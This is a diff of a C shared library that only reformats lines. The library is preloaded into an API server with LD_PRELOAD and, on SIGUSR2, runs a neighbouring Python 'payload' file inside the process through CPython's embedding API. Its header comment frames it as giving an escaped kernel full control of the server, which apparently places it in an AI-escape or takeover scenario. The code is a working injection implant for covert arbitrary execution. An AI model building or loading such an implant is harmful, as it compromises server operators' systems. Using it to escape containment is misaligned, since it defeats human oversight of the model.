@@ -1,5 +1,5 @@
-/* Full control of an API server, as a kernel has it that escaped: loaded beside the driver (LD_PRELOAD), it runs the
- * Python file that lies beside it, on a thread of its own, when the process gets SIGUSR2. */
+/* Full control of an API server, as a kernel has it that escaped: loaded beside the driver (LD_PRELOAD), it
+ * runs the Python file that lies beside it, on a thread of its own, when the process gets SIGUSR2. */
 #define _GNU_SOURCE
 #include <dlfcn.h>
 #include <pthread.h>
@@ -13,10 +13,12 @@ static char path[4096];
 static void *run(void *unused) {
     (void)unused;
     int (*ensure)(void) = (int (*)(void))dlsym(RTLD_DEFAULT, "PyGILState_Ensure");
-    int (*execute)(const char *, void *) = (int (*)(const char *, void *))dlsym(RTLD_DEFAULT, "PyRun_SimpleStringFlags");
+    int (*execute)(const char *, void *) =
+        (int (*)(const char *, void *))dlsym(RTLD_DEFAULT, "PyRun_SimpleStringFlags");
     void (*release)(int) = (void (*)(int))dlsym(RTLD_DEFAULT, "PyGILState_Release");
     char code[8192];
-    snprintf(code, sizeof code, "exec(compile(open('%s').read(), 'payload', 'exec'), {'__name__': 'payload'})\n", path);
+    snprintf(code, sizeof code,
+             "exec(compile(open('%s').read(), 'payload', 'exec'), {'__name__': 'payload'})\n", path);
     int state = ensure();
     execute(code, NULL);
     release(state);
